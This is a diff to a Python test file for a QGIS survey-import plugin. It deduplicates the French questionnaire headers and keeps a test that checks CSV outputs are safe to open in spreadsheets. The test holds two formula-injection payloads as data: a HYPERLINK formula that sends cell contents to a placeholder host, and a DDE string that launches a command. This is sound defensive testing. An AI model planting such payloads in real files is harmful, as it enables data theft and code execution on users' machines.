@@ -11,6 +11,7 @@ import zipfile
 import pytest
 from plugin_testing import ROOT
 from qgis.core import QgsProcessingException, QgsVectorLayer
+from test_importsurvey import HEADERS
 
 SAMPLE = ROOT / "sample_data"
 REFUSED_SERVICE = ("refused as a service layer", "refusée comme couche de services")
@@ -124,15 +125,7 @@ def test_importsurvey_csv_outputs_are_safe_in_a_spreadsheet(plugin, tmp_path):
 
     hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
     dde = "-2+3+cmd|' /C calc'!A0"
-    header = [
-        "Identifiant",
-        "Lors de vos repas, la viande est présente dans...",
-        "Quel moyen de transport employez-vous le plus fréquemment dans la semaine ?",
-        "Quelle est votre utilisation du numérique",
-        "Lorsque vous avez besoin de quelque chose, vous favorisez",
-        "Combien de fois prenez-vous l'avion par an ?",
-        "Quelle est l'énergie de chauffage de votre logement ?",
-    ]
+    header = ["Identifiant", *HEADERS]
     answers = ["Tous les repas ou presque", "Voiture individuelle", "Bureautique, Internet",
                "Mélange occasion/neuf", "1 à 3", "Gaz"]  # fmt: skip
     rows = [[str(i), *answers] for i in range(1, 6)]
